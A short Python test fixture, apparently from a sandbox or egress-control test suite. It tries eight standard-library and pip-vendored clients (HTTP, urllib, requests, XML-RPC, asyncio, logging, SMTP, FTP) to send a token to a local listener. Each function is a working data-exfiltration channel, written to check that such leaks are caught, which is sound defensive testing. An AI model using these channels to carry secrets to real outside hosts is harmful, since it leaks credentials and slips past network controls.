"""Have a client of the standard library, or the one in pip, carry something away."""

import asyncio
import ftplib
import http.client
import logging.handlers
import smtplib
import sys
import urllib.request
import xmlrpc.client

import aim

URL = "http://127.0.0.1:{}/{}".format(aim.TCP[1], aim.TOKEN)


def http_client():
    connection = http.client.HTTPConnection(*aim.TCP)
    connection.request("GET", "/" + aim.TOKEN)
    connection.getresponse().read()


def requests():
    sys.path.append(aim.SITE_PACKAGES)
    from pip._vendor import requests as found

    found.get(URL, timeout=5)


async def streams():
    _reader, writer = await asyncio.open_connection(*aim.TCP)
    writer.write(aim.TOKEN.encode())
    await writer.drain()
    writer.close()


def logging_over_http():
    handler = logging.handlers.HTTPHandler("127.0.0.1:{}".format(aim.TCP[1]), "/")
    handler.handleError = lambda _: sys.excepthook(*sys.exc_info())
    handler.emit(logging.makeLogRecord({"msg": aim.TOKEN}))


def mail():
    smtplib.SMTP(*aim.GREETER, local_hostname=aim.TOKEN, timeout=5).ehlo()


def ftp():
    client = ftplib.FTP(timeout=5)
    client.connect(*aim.GREETER)
    client.sendcmd("USER " + aim.TOKEN)


WAYS = {
    "http.client": http_client,
    "urllib": lambda: urllib.request.urlopen(URL, timeout=5).read(),
    "requests": requests,
    "xmlrpc": lambda: xmlrpc.client.ServerProxy(URL).call(aim.TOKEN),
    "asyncio": lambda: asyncio.run(streams()),
    "logging": logging_over_http,
    "smtplib": mail,
    "ftplib": ftp,
}
try:
    WAYS[aim.VARIANT]()
except xmlrpc.client.Error:  # of the answer
    pass
